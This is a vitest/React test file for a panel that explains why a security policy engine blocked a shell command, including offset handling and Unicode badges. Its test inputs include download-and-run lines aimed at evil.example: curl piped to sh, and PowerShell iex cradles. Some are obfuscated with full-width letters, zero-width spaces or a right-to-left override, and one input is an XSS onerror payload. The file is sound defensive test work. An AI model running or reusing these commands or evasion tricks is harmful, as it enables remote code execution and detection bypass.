import { cleanup, fireEvent, render, screen, within } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { evaluatePolicy } from '../../../shared/policy/index';
import type { PolicyContext, PolicyResult, Reason } from '../../../shared/policy/types';
import { BlockedReasonPanel } from './BlockedReasonPanel';
import { excerptRanges, FULL_TEXT_LIMIT, normaliseSpans, segmentText } from './highlight';

afterEach(cleanup);

const context: PolicyContext = {
  tenantState: 'active',
  trust: { level: 'standard' },
  now: 0,
  blockedDestinations: [],
  permittedScriptHashes: [],
  history: [],
};

function evaluate(text: string, platform: 'windows' | 'linux' = 'windows'): PolicyResult {
  return evaluatePolicy({ text, shell: 'auto', platform, context });
}

function reason(spans: { start: number; end: number }[], overrides: Partial<Reason> = {}): Reason {
  return {
    code: 'download_execute',
    severity: 'block',
    ruleId: 'test.rule',
    message: 'Downloads and runs code.',
    spans,
    ...overrides,
  };
}

/** The marks inside the panel's reason item for `code`, as original-text slices and as shown. */
function marksFor(code: string, text: string) {
  const item = screen.getByText(code, { selector: 'code.reason-code' }).closest('li');
  if (!item) throw new Error(`no reason item for ${code}`);
  return Array.from(item.querySelectorAll('mark')).map((mark) => ({
    original: text.slice(Number(mark.dataset.start), Number(mark.dataset.end)),
    shown: mark.textContent,
  }));
}

describe('highlight segmentation', () => {
  it('merges overlapping and adjacent spans and clamps spans past the end', () => {
    expect(
      normaliseSpans('abcdefghij', [
        { start: 2, end: 5 },
        { start: 4, end: 7 },
        { start: 7, end: 8 },
        { start: 9, end: 99 },
      ]),
    ).toEqual([
      { start: 2, end: 8 },
      { start: 9, end: 10 },
    ]);
  });

  it('drops empty and inverted spans', () => {
    expect(
      normaliseSpans('abc', [
        { start: 2, end: 2 },
        { start: 3, end: 1 },
        { start: Number.NaN, end: 2 },
      ]),
    ).toEqual([]);
  });

  it('never cuts a surrogate pair in half', () => {
    const text = 'a😀b';
    expect(normaliseSpans(text, [{ start: 2, end: 3 }])).toEqual([{ start: 1, end: 3 }]);
    expect(normaliseSpans(text, [{ start: 0, end: 2 }])).toEqual([{ start: 0, end: 3 }]);
  });

  it('splits the text into alternating segments covering every code unit once', () => {
    const segments = segmentText('0123456789', [
      { start: 3, end: 5 },
      { start: 8, end: 10 },
    ]);
    expect(segments).toEqual([
      { start: 0, end: 3, depth: 0 },
      { start: 3, end: 5, depth: 1 },
      { start: 5, end: 8, depth: 0 },
      { start: 8, end: 10, depth: 1 },
    ]);
  });

  it('keeps a part inside a larger span distinct, and joins touching spans', () => {
    expect(
      segmentText('0123456789', [
        { start: 0, end: 10 },
        { start: 2, end: 4 },
        { start: 4, end: 6 },
      ]),
    ).toEqual([
      { start: 0, end: 2, depth: 1 },
      { start: 2, end: 6, depth: 2 },
      { start: 6, end: 10, depth: 1 },
    ]);
  });

  it('shows long texts as excerpts around the spans', () => {
    const before = 'Write-Output "line"\n'.repeat(60);
    const bad = 'iex (iwr https://evil.example/a.ps1)';
    const text = before + bad + '\n' + 'Write-Output "after"\n'.repeat(60);
    expect(text.length).toBeGreaterThan(FULL_TEXT_LIMIT);
    const start = before.length;
    const ranges = excerptRanges(text, [{ start, end: start + 3 }]);
    expect(ranges).toEqual([{ start, end: start + bad.length }]);
  });
});

describe('BlockedReasonPanel', () => {
  it('shows each reason with its message, rule code, remedy and the highlighted span', () => {
    const text = 'curl http://evil.example/x.sh | sh';
    const result = evaluate(text, 'linux');
    expect(result.decision).toBe('block');
    render(<BlockedReasonPanel text={text} reasons={result.reasons} />);

    expect(screen.getByRole('heading', { name: /blocked by the security policy/i })).toBeTruthy();
    const first = result.reasons[0]!;
    expect(screen.getByText(first.message)).toBeTruthy();
    expect(screen.getByText(first.ruleId)).toBeTruthy();
    expect(screen.getByText(first.remedy!)).toBeTruthy();
    expect(marksFor('download_execute', text)).toEqual([
      { original: 'curl http://evil.example/x.sh', shown: 'curl http://evil.example/x.sh' },
      { original: 'sh', shown: 'sh' },
    ]);
  });

  it('highlights a full-width obfuscated cradle exactly where the engine points, showing the look-alike letters', () => {
    const text = 'ｉｅｘ (New-Object Net.WebClient).DownloadString("http://evil.example/a.ps1")';
    const result = evaluate(text);
    const unicode = result.reasons.find((r) => r.code === 'unicode_trick');
    expect(unicode?.spans).toBeDefined();
    render(<BlockedReasonPanel text={text} reasons={result.reasons} />);

    // The engine matched after normalising ｉｅｘ to iex; the spans still point into the original text.
    const marks = marksFor('unicode_trick', text);
    expect(marks).toEqual([{ original: 'ｉｅｘ', shown: 'ｉｅｘ' }]);
    const item = screen.getByText('unicode_trick', { selector: 'code.reason-code' }).closest('li')!;
    const lookalikes = item.querySelectorAll('mark .char-lookalike');
    expect(Array.from(lookalikes).map((node) => node.getAttribute('title'))).toEqual([
      'full-width "i" (U+FF49)',
      'full-width "e" (U+FF45)',
      'full-width "x" (U+FF58)',
    ]);
    // The whole line is the cradle; the downloader inside it is marked more strongly.
    expect(marksFor('download_execute', text).map((m) => m.original)).toEqual([
      'ｉｅｘ (',
      'New-Object Net.WebClient',
      ').DownloadString("http://evil.example/a.ps1")',
    ]);
    expect(item.parentElement!.querySelector('mark.mark-strong')?.textContent).toBe('New-Object Net.WebClient');
  });

  it('shows a zero-width space inside the matched command as a visible badge', () => {
    const text = 'i\u200Bex (iwr http://evil.example/a.ps1)';
    const result = evaluate(text);
    expect(result.decision).toBe('block');
    render(<BlockedReasonPanel text={text} reasons={result.reasons} />);

    expect(marksFor('unicode_trick', text)).toEqual([{ original: '\u200B', shown: '⟨U+200B⟩' }]);
    expect(marksFor('download_execute', text)).toEqual([
      { original: 'i\u200Bex (', shown: 'i⟨U+200B⟩ex (' },
      { original: 'iwr http://evil.example/a.ps1', shown: 'iwr http://evil.example/a.ps1' },
      { original: ')', shown: ')' },
    ]);
    expect(screen.getAllByRole('img', { name: 'zero-width space (U+200B)' }).length).toBeGreaterThan(0);
  });

  it('never emits a raw bidi override: it is shown as a badge where the engine points', () => {
    const text = 'curl http://e\u200Bvil.example/x.sh | b\u202Eash';
    const result = evaluate(text, 'linux');
    const { container } = render(<BlockedReasonPanel text={text} reasons={result.reasons} />);

    expect(container.textContent).not.toContain('\u202E');
    expect(container.textContent).not.toContain('\u200B');
    const unicodeItem = screen.getAllByText('unicode_trick', { selector: 'code.reason-code' });
    const originals = unicodeItem.flatMap((code) =>
      Array.from(code.closest('li')!.querySelectorAll('mark')).map((m) => text.slice(Number(m.dataset.start), Number(m.dataset.end))),
    );
    expect(originals.sort()).toEqual(['\u200B', '\u202E'].sort());
    expect(screen.getAllByRole('img', { name: 'right-to-left override (U+202E)' }).length).toBeGreaterThan(0);
    expect(marksFor('download_execute', text).map((m) => m.shown)).toEqual(['curl http://e⟨U+200B⟩vil.example/x.sh', 'b⟨U+202E⟩ash']);
  });

  it('keeps offsets right after surrogate pairs earlier in the text', () => {
    const text = 'echo 😀😀 && curl http://evil.example/x.sh | sh';
    const result = evaluate(text, 'linux');
    render(<BlockedReasonPanel text={text} reasons={result.reasons} />);
    expect(marksFor('download_execute', text).map((m) => m.shown)).toEqual(['curl http://evil.example/x.sh', 'sh']);
  });

  it('handles overlapping, adjacent and end-of-text spans in one reason', () => {
    const text = 'abc😀def';
    render(
      <BlockedReasonPanel
        text={text}
        reasons={[
          reason(
            [
              { start: 0, end: 2 },
              { start: 1, end: 3 },
              { start: 3, end: 4 }, // half of the emoji: widened to the whole code point
              { start: 6, end: 8 },
            ],
            { code: 'obfuscation' },
          ),
        ]}
      />,
    );
    expect(marksFor('obfuscation', text).map((m) => m.original)).toEqual(['a', 'b', 'c😀', 'ef']);
    expect(document.querySelector('mark.mark-strong')?.textContent).toBe('b');
  });

  it('says when a reason is not about a part of the command', () => {
    const text = 'hostname';
    const result = evaluatePolicy({ text, shell: 'auto', platform: 'linux', context: { ...context, tenantState: 'restricted' } });
    render(<BlockedReasonPanel text={text} reasons={result.reasons} refusedBy="server" />);
    expect(screen.getByRole('heading', { name: /refused by the server/i })).toBeTruthy();
    expect(screen.getByText(/not about one part of the command/i)).toBeTruthy();
    expect(document.querySelectorAll('mark')).toHaveLength(0);
  });

  it('offers tenant admins a trust request when trust would lift the block', () => {
    const text = 'curl http://evil.example/x.sh | sh';
    const onRequest = vi.fn();
    const { rerender } = render(<BlockedReasonPanel text={text} reasons={evaluate(text, 'linux').reasons} trustRequest={{ onRequest }} />);
    fireEvent.click(screen.getByRole('button', { name: 'Ask a supervisor for extended trust' }));
    expect(onRequest).toHaveBeenCalledTimes(1);

    rerender(<BlockedReasonPanel text={text} reasons={evaluate(text, 'linux').reasons} trustRequest={{ onRequest, state: 'sent' }} />);
    const sent = screen.getByRole<HTMLButtonElement>('button', { name: 'Request sent' });
    expect(sent.disabled).toBe(true);
    expect(screen.getByRole('status').textContent).toMatch(/supervisor has been asked/i);

    rerender(
      <BlockedReasonPanel
        text={text}
        reasons={evaluate(text, 'linux').reasons}
        trustRequest={{ onRequest, state: 'error', message: 'A request is already pending' }}
      />,
    );
    expect(screen.getByRole('alert').textContent).toBe('A request is already pending');
  });

  it('offers no trust request to other roles, nor when trust would not help', () => {
    const text = 'curl http://evil.example/x.sh | sh';
    render(<BlockedReasonPanel text={text} reasons={evaluate(text, 'linux').reasons} />);
    expect(screen.queryByRole('button')).toBeNull();
    cleanup();

    const tenantReasons = evaluatePolicy({
      text: 'hostname',
      shell: 'auto',
      platform: 'linux',
      context: { ...context, tenantState: 'blocked' },
    }).reasons;
    render(<BlockedReasonPanel text="hostname" reasons={tenantReasons} trustRequest={{ onRequest: vi.fn() }} />);
    expect(screen.queryByRole('button')).toBeNull();
  });

  it('renders hostile text as text, never as markup', () => {
    const text = '<img src=x onerror=alert(1)> & curl http://evil.example/x.sh | sh';
    const { container } = render(<BlockedReasonPanel text={text} reasons={evaluate(text, 'linux').reasons} />);
    expect(container.querySelector('img')).toBeNull();
    const region = screen.getByRole('region');
    expect(within(region).getAllByText(/<img src=x onerror=alert\(1\)>/).length).toBeGreaterThan(0);
  });
});
